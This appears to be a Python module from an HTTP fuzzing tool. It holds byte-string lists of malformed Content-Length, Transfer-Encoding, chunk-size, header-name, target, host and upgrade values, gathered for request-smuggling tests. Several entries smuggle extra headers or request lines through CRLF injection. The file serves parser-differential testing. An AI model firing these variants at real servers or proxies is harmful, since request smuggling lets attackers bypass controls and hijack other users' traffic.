"""The words of attempts at request smuggling: what parsers were found to read differently, by where it stands."""

from __future__ import annotations

# fmt: off
ODD = (
    b"\x00", b"\x01", b"\x02", b"\x03", b"\x04", b"\x05", b"\x06", b"\x07", b"\x08", b"\t", b"\n", b"\x0b", b"\x0c",
    b"\r", b"\x0e", b"\x0f", b"\x10", b"\x11", b"\x12", b"\x13", b"\x14", b"\x15", b"\x16", b"\x17", b"\x18", b"\x19",
    b"\x1a", b"\x1b", b"\x1c", b"\x1d", b"\x1e", b"\x1f", b" ", b"\x7f", b"\x80", b"\x85", b"\xa0", b"\xad", b"\xff",
    b"\xc2\x85", b"\xc2\xa0", b"\xe2\x80\xa8", b"\xef\xbb\xbf", b"\r\n", b"\n\r", b"\r\r\n", b"\\", b'"', b"'", b",",
    b";",
)
"""Control bytes, blanks, and what some string library somewhere strips (0x85, 0xA0), folds or ends a line at."""
ENDINGS = (
    b"\n", b"\r", b"\r\r\n", b"\n\r\n", b"\n\r", b"\x00\r\n", b" \r\n", b"\x0b\r\n", b"\x85", b"\xe2\x80\xa8",
)
"""What may pass for the end of a line."""
LENGTHS = (
    b"+%d", b"-%d", b"0x%x", b"%d_", b"_%d", b"0_%d", b"%d,", b",%d", b"%d,%d", b"%d, %d", b"%d;", b"%d;a", b"%d a",
    b"%d.0", b"%de0", b'"%d"', b"'%d'", b"(%d)", b"%d\x00", b"\x00%d", b"\x0b%d", b"%d\x0b", b"\x85%d", b"%d\xa0",
    b"00%d", b"0%o", b"0b%d", b"%dL", b"%d\r", b"\r%d", b"%d\n", b"\n%d", b"%d\r\n ", b"\r\n %d", b"- %d", b"+0%d",
)
"""Values of Content-Length; each place is filled with the length."""
CODINGS = (
    b"xchunked", b"chunkedx", b"chunk", b"cow, chunked", b"chunked, cow", b"identity", b"identity, chunked", b"",
    b"chunked, identity", b"gzip, chunked", b"chunked, chunked", b"chunked,", b",chunked", b"chunked;q=1", b"CHUNKED",
    b"cHuNkEd", b'"chunked"', b"'chunked'", b"chunked, ", b"chunked;a=b", b"chu nked", b"chun\x00ked", b"(chunked)",
    b"chunked\r\n ", b"\r\n chunked", b"\r\n\tchunked", b"\n chunked", b"x\r\n chunked", b"ch\xfcnked", b"chunKed",
    b"chun\xe2\x84\xaaed", b"\xef\xbd\x83hunked", b"chunked\r\nTransfer-Encoding: identity", b"deflate",
    b"identity\r\nTransfer-Encoding: chunked", b"chunked\r\nTransfer-Encoding: chunked", b"compress, chunked",
)
"""Values of Transfer-Encoding."""
CODING_NAMES = (
    b"Transfer_Encoding", b"Transfer Encoding", b"TransferEncoding", b"Transfer-Encodings", b"XTransfer-Encoding",
    b"transfer-encoding", b"TRANSFER-ENCODING", b"tRANSFER-ENCODINg", b"Transfer.Encoding", b"Transfer-\r\n Encoding",
    b"Transfer\xe2\x80\x90Encoding", b"Tran\xc5\xbffer-Encoding", b"Transfer-Encoding:", b":Transfer-Encoding",
    b"HTTP_TRANSFER_ENCODING", b"TE", b"Content-Encoding", b"Transfer--Encoding", b"-Transfer-Encoding",
)
"""Names that may pass for Transfer-Encoding."""
SIZES = (
    b"0x%x", b"0X%x", b"+%x", b"-%x", b"%x ", b" %x", b"\t%x", b"%x\t", b"%x\x0b", b"\x0b%x", b"%x\x00", b"%x_",
    b"_%x", b"0_%x", b"000000000000000000%x", b"1000000000000000%x", b"fffffffffffffff%x", b"%x;", b"%x;a", b"%x;a=b",
    b"%x;\x00", b"%x;a\n", b"%x;\n", b"%x\n", b"%x\r", b"%x;a\r", b"%x ;a", b"%x; a", b'%x;a="\r\n', b"%x;a=\xff",
    b"%x,", b"%x.0", b"%x\xa0", b"%x\x85", b"\xef\xbb\xbf%x", b"%xg", b"g%x", b"%xh", b"'%x'", b'"%x"', b"%x%%00",
    b"", b";", b"\r\n%x",
)
"""Chunk sizes; each place is filled with the size."""
METHODS = (
    b"GET", b"HEAD", b"POST", b"PUT", b"DELETE", b"OPTIONS", b"PATCH", b"TRACE", b"CONNECT", b"PROPFIND", b"FOO",
    b"get", b"G", b"GET\x00", b"GE T", b"\x00GET", b"GET\t", b" GET", b'G"T', b"G:T", b"GET/", b"\xc7ET", b"PRI",
    b"PURGE", b"0",
)
VERSIONS = (
    b"HTTP/1.1", b"HTTP/1.0", b"HTTP/0.9", b"HTTP/1.2", b"HTTP/1.9", b"HTTP/2.0", b"HTTP/2", b"HTTP/3", b"HTTP/1",
    b"HTTP/1.", b"HTTP/.1", b"HTTP/11", b"HTTP/1.10", b"HTTP/1.11", b"HTTP/01.1", b"HTTP/1.01", b"HTTP/1,1",
    b"HTTP1.1", b"http/1.1", b"Http/1.1", b"HTTP /1.1", b"HTTP/ 1.1", b"HTTP/1.1 ", b" HTTP/1.1", b"HTTP/1.1\t",
    b"\tHTTP/1.1", b"HTTP/1.1\x00", b"HTTP/1.1\x0b", b"HTTP/1.1x", b"xHTTP/1.1", b"", b"HTTPS/1.1", b"ICE/1.0",
    b"RTSP/1.0", b"HTTP/-1.1", b"HTTP/1.1 HTTP/1.0", b"HTTP/1.0 HTTP/1.1", b"HTTP/\xb1.1", b"HTTP/65537.1",
    b"HTTP/1.65537",
)
TARGETS = (
    b"/", b"//", b"//smuggled", b"/a/../smuggled", b"/%2e%2e/smuggled", b"/..", b"/a%00b", b"/a\x00b", b"/a b",
    b"/a\tb", b"/a\x0bb", b"/a\xa0b", b"/\xff", b"/a#b", b"/?a#b", b"/a\\b", b"\\", b"a", b"", b"*", b"?", b"?a=b",
    b"#", b"/%", b"/%zz", b"/%0d%0aX:%20y", b"/%20HTTP/1.1%0d%0aHost:%20b", b"/\rX", b"/\nX", b"/a;b=c", b"/a%2fb",
    b"/a%5cb", b"/a%252fb", b"http://a/", b"http://a", b"http://a?b", b"HTTP://a/", b"http://b/", b"http://a:80/",
    b"http://a@b/", b"http://b@a/", b"http://a:b/", b"http:///", b"http:/a", b"http:a", b"//a@b/", b"https://a/",
    b"ftp://a/", b"http://[::1]/", b"http://[a/", b"http://a\\b/", b"http://a#b/", b"http://a%00/", b"a:80", b"a:443",
    b'/a"b', b"/<a>", b"/{a}", b"/a|b", b"/a^b", b"/`", b"http://a/ http://b/", b"/ /", b"/smuggled\x85", b"/?\x00",
    b"/?a\xa0", b"/?\x7f", b"/\x7f",
)
HOSTS = (
    b"b", b"", b" ", b"a b", b"a,b", b"a, a", b"a:80", b"a:", b"a:b", b"a:-1", b"a:99999", b"a:080", b"a@b", b"b@a",
    b"a/b", b"a?b", b"a#b", b"a\\b", b"a\x00", b"a\x00b", b"\x00a", b"a\tb", b"\ta", b"a\x0b", b"\x85a", b"a\xa0",
    b"[::1]", b"[::1", b"[::1]:80", b"::1", b"[a]", b"a..b", b".a", b"a.", b"-a", b"%61", b"a%00", b"A", b"\xe4",
    b"xn--a", b"*", b"a;b", b'"a"', b"a:80:80", b"http://a", b"a\r\n b", b"a\r\n\tb", b"a\nb", b"a\rb", b"127.0.0.1",
    b"0x7f.1", b"a" * 300, b"a:00080",
)
NAMES = (
    b"", b" ", b"\t", b"X ", b" X", b"\tX", b"X\t", b"X\x00", b"\x00X", b"X\x0b", b"X\r", b"X\n", b"X Y", b"X\x85",
    b"X\xa0", b"X(", b"X)", b"X,", b"X/", b"X;", b"X<", b"X=", b"X>", b"X?", b"X@", b"X[", b"X\\", b"X]", b'X"',
    b"X{", b"X}", b"\xff", b"Content_Length", b"Content Length", b"content_length", b"CONTENT_LENGTH",
    b"Content-Length ", b"Content-Length\t", b"Content-Length\x00", b"Content-Length\x0b", b" Content-Length",
    b"\tContent-Length", b"\x00Content-Length", b"Content.Length", b"Content-Length\xa0", b"Content-Length\x85",
    b"Conten-Length", b"Content-Lengt", b"Content-Lengthh",
)
"""Names of fields, some of which may pass for Content-Length."""
EXPECTS = (
    b"100-continue", b"100-Continue", b"100-continue, x", b"x", b"", b"100-continue ", b"200-ok", b"y 100-continue",
    b"100-continue\x00", b"\t100-continue", b"100-continue\r\nExpect: 100-continue", b"100-continue;a",
    b"100_continue",
)
"""Values of Expect."""
TRAILERS = (
    b"Content-Length: 35", b"Transfer-Encoding: chunked", b"Host: b", b"X: y", b"Connection: close", b"Cookie: a=b",
    b"X-Forwarded-For: 9.9.9.9", b"Expect: 100-continue", b"Upgrade: h2c", b" X: y", b"X : y", b"X", b":", b"X: \x00",
    b"X: y\n", b"X: y\rZ: z", b"X: y\nZ: z", b"X: y\r\n folded", b"GET /smuggled HTTP/1.1", b"Content_Length: 35",
    b"X-Request-Id: 1", b"\x00: a", b"X\x85: a", b"Trailer: X", b"TE: trailers", b"Transfer_Encoding: chunked",
)
"""Lines behind the last chunk."""
UPGRADES = (
    b"Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQCAAAAAAIAAAAA",
    b"Connection: Upgrade\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQCAAAAAAIAAAAA",
    b"Connection: HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQCAAAAAAIAAAAA",
    b"Upgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQCAAAAAAIAAAAA", b"Connection: Upgrade\r\nUpgrade: H2C",
    b"Connection: Upgrade\r\nUpgrade: websocket, h2c", b"Connection: Upgrade\r\nUpgrade: h2c, websocket",
    b"Connection: Upgrade\r\nUpgrade: h2", b"Connection: Upgrade\r\nUpgrade: HTTP/2.0",
    b"Connection: Upgrade\r\nUpgrade: TLS/1.0, HTTP/1.1", b"Connection: Upgrade\r\nUpgrade: HTTP/1.1",
    b"Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 777\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAA",
    b"Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13",
    b"Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAA",
    b"Connection: upgrade\r\nConnection: close\r\nUpgrade: websocket",
    b"Connection: Upgrade\r\nUpgrade: websocket\r\nUpgrade: h2c", b"Connection: Upgrade\r\nUpgrade: \x00h2c",
    b"Connection: Upgrade\r\nUpgrade: h2c\x0b", b"Connection: Upgrade\r\nUpgrade: h2c;a=b",
    b'Connection: Upgrade\r\nUpgrade: "h2c"', b"Connection: Upgrade\r\nUpgrade:\th2c\t",
)
"""Lines that ask for another protocol."""
CONNECTIONS = (
    b"Content-Length", b"Transfer-Encoding", b"Host", b"close, Content-Length", b"keep-alive, Transfer-Encoding",
    b"Cookie", b"X-Forwarded-For", b"X-Request-Id", b"X-Forwarded-Host, X-Forwarded-Proto", b"close\x00",
    b"clo\x0bse", b"close, close", b"keep-alive, close", b"close, keep-alive", b",", b", ,", b'"Content-Length"',
    b"Content-Length;", b"Trailer, TE", b"TE",
)
"""Values of Connection."""
# fmt: on
